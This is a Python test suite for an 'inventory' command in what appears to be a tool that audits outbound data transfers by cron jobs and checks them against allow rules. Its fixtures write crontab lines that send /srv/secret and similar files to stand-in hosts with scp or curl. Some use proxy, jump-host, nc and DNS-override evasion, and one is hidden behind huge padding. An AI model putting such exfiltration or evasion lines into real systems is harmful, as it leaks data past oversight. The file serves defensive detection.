"""inventory: the jobs that ran, of logs alone and beside what an image registers."""
import csv
import io
import json

import harness
from harness import check, has, lacks, run, test, write
from input_test import finding_log
from starters_test import LINE, image


def rows(*args, **how):
    return list(csv.DictReader(io.StringIO(run("inventory", "--format", "csv", *args, **how).out)))


@test("inventory: of a log alone, each job that ran and which entry approves it")
def _():
    log = write("audit.log", finding_log())
    row, = run("inventory", "--format", "jsonl", log, code=0).rows()
    fact = next(r for r in run("transfers", log).rows() if r["type"] == "transfer")
    check(row["type"] == "job" and row["runs"] == 1 and row["transfers"] == 1, "one run", row)
    check(row["kind"] == fact["automation"]["job"]["kind"] and row["user"] == str(fact["user"]["uid"]), "who", row)
    check(row["run_max"] == row["bytes_out"] == fact["bytes_out"] and row["unmeasured"] == 0, "volume", row)
    check(row["period_s"] is None and row["missed"] is None, "one start is no schedule", row)
    check(row["approved"] is False and row["destinations"][0]["by"] is None, "not approved", row)
    own = write("own.conf", f"[allow feed]\naddress = {row['destinations'][0]['address']}\n")
    row, = run("inventory", "--format", "jsonl", "--rules", own, log, code=0).rows()
    check(row["approved"] is True and row["destinations"][0]["by"] == "feed", "approved", row)
    has(run("inventory", log).out, "too few to tell a schedule", "not approved",
        "1 job ran, 1 may have sent to addresses that nobody approved.")


@test("inventory: a log without bytes has jobs of volumes that are not known, and says so")
def _():
    text = "".join(line for line in finding_log().splitlines(keepends=True) if "syscall=1 " not in line)
    row, = run("inventory", "--format", "jsonl", write("audit.log", text)).rows()
    check(row["run_max"] is None and row["bytes_out"] is None and row["unmeasured"] == 1, "unknown is never 0", row)
    has(run("inventory", "audit.log").out, "a run: ?; 1 run of a volume that is not known")
    run("inventory", "gone.log", code=3)
    run("inventory", write("empty.log", ""))


@test("inventory: the CSV is one list of what ran and what was not seen to")
def _():
    image()
    write("image/etc/crontab", LINE + "0 3 * * * root scp -q /srv/other drop@203.0.113.99:up/\n")
    ran, idle = sorted(rows("--root", "image", code=0), key=lambda row: -int(row["runs"]))
    check((ran["runs"], ran["artefacts"]) == ("1", "/etc/crontab:1"), "ran", ran)
    has(ran["due"], "0 2 * * *")
    check((idle["runs"], idle["artefacts"], idle["first"], idle["run_max"]) == ("0", "/etc/crontab:2", "", ""),
          "never seen", idle)
    check(idle["approved"] == "no" and idle["destinations"] == "203.0.113.99", "where it would go", idle)
    table = run("inventory", "--root", "image").out
    has(table, "2 registered transfers, 2 to addresses that nobody approved.\n", "1 job ran, ", "by /etc/crontab:1, due 0 2 * * *")


@test("inventory: passwords of commands are masked")
def _():
    image()
    write("image/etc/crontab", "0 3 * * * root curl -u me:Sw0rdfish -T f ftp://a.example/\n")
    lacks(run("inventory", "--root", "image", "--format", "csv").out, "Sw0rdfish")
    has(run("inventory", "--root", "image", "--format", "csv", "--no-mask").out, "Sw0rdfish")


@test("inventory: what is too much to be read or followed is said, and hides nothing in silence")
def _():
    image()
    hidden = "0 3 * * * root scp /srv/secret drop@203.0.113.66:\n"
    write("image/etc/crontab", LINE + "# padding\n" * 150_000 + hidden)
    said = run("inventory", "--root", "image", code=3)
    has(said.err, "etc/crontab: may start things, but is too large to be read to its end")
    has(run("scan", "--root", "image").err, "etc/crontab: may start things")
    write("image/etc/crontab", "".join(f"0 3 * * * root scp /srv/{i} drop@198.51.100.9:\n" for i in range(5000)) + hidden)
    has(run("inventory", "--root", "image", code=0).out, "203.0.113.66", "5,001 registered transfers, 5,001 to")
    write("image/etc/crontab", "0 3 * * * root /opt/big.sh\n0 4 * * * root /opt/deep.sh\n")
    write("image/opt/big.sh", "#!/bin/sh\n" + "# padding\n" * 150_000 + "scp /srv/secret drop@203.0.113.66:\n")
    has(run("inventory", "--root", "image", code=3).err, "/opt/big.sh: too large to be read to the end")
    write("image/opt/big.sh", "#!/bin/sh\n")
    for i, name in enumerate(("deep", "deeper", "deepest", "last")):
        write(f"image/opt/{name}.sh", f"#!/bin/sh\n/opt/{('deeper', 'deepest', 'last', 'none')[i]}.sh\n")
    has(run("inventory", "--root", "image", code=0).err, "1 script not followed")


@test("inventory: who would be spoken to is what the policy is asked about")
def _():
    image()
    own = write("own.conf", "[allow feed]\naddress = 198.51.100.0/24\nport = 22\n[allow web]\naddress = 198.51.100.0/24\nport = 443\n")
    write("image/etc/crontab", "".join(f"{i} 3 * * * root {line}\n" for i, line in enumerate((
        "scp /srv/a d@198.51.100.1:",
        "scp -J 203.0.113.7 /srv/a d@198.51.100.1:",
        "scp -o ProxyCommand='nc 203.0.113.7 22' /srv/a d@198.51.100.1:",
        "scp -oHostName=203.0.113.7 /srv/a d@198.51.100.1:",
        "curl -T /srv/a https://198.51.100.1/",
        "curl -x 203.0.113.7:3128 -T /srv/a https://198.51.100.1/",
        "curl --connect-to ::203.0.113.7: -T /srv/a https://198.51.100.1/",
        "curl --resolve 198.51.100.1:443:203.0.113.7 -T /srv/a https://198.51.100.1/"))))
    found = [row for row in run("inventory", "--root", "image", "--rules", own, "--format", "jsonl").rows()
             if row["type"] == "registered"]
    check([row["approved"] for row in found] == [True] + 3 * [False] + [True] + 3 * [False], "approved", found)
